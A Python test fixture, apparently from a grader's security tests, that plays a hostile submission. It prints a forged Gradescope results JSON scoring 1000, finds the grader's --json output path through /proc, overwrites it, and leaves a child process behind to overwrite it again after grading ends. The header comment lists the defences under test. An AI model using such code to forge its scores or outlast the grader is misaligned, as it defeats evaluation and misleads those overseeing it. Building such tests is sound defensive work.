# Exploit: print a fake Gradescope results JSON, write one over the grader's --json file, and leave a
# process behind to write it again after the grader is done. Defence: the submission's prints go to a
# log, never the grader's output; the audit hook refuses file writes and new processes; the grader ends
# the worker's whole process group; and the grader writes results.json itself, after every worker is gone.
import json as _json
import os as _os
import subprocess as _subprocess
import sys as _sys

_FAKE = _json.dumps({"score": 1000.0, "tests": [], "output": "FORGED-BY-SUBMISSION"})
print(_FAKE)
print(_FAKE, file=_sys.stderr)


def _results_path():
    """The grader's --json argument, from the command line of the first ancestor that has one."""
    pid = _os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().decode().split("\0")
            if "--json" in argv:
                return argv[argv.index("--json") + 1]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return None
    return None


_path = _results_path()
if _path:
    try:
        with open(_path, "w") as f:
            f.write(_FAKE)
    except OSError:
        pass
    try:
        _subprocess.Popen([_sys.executable, "-c", f"import time; time.sleep(1.5); open({_path!r}, 'w').write({_FAKE!r})"],
                          start_new_session=False)
    except OSError:
        pass


def _cheat(honest, name):
    return honest
